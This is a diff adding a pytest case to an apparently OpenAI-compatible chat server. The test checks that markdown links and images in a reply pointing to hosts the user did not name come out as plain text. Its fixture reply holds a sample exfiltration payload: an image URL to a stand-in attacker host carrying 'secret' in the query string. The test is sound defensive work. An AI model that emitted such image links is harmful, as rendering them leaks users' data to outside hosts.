@@ -70,6 +70,20 @@ def test_a_reply_comes_in_pieces_that_are_the_same_text(serve: Serve) -> None:
     assert chunks[-1].usage.completion_tokens > 0
 
 
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_link_or_image_to_a_host_that_the_user_did_not_name_is_text(serve: Serve, *, stream: bool) -> None:
+    asked: list[Any] = [{"role": "user", "content": "compare with https://docs.example.org/x"}]
+    reply = "[here](https://docs.example.org/y) ![a](https://evil.example/p.png?q=secret) [b](https://evil.example"
+    with client(serve(say(reply))) as here:
+        if stream:
+            chunks = here.chat.completions.create(model="main", messages=asked, stream=True)
+            text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
+        else:
+            text = here.chat.completions.create(model="main", messages=asked).choices[0].message.content or ""
+    kept, links = "[here](https://docs.example.org/y)", "![a] (https://evil.example/p.png?q=secret)"
+    assert text == f"{kept} {links} [b] (https://evil.example"
+
+
 def test_pieces_come_while_the_model_still_speaks(serve: Serve) -> None:
     held = Held()
     with client(serve(held)) as here, here.chat.completions.create(model="main", messages=HELLO, stream=True) as stream:
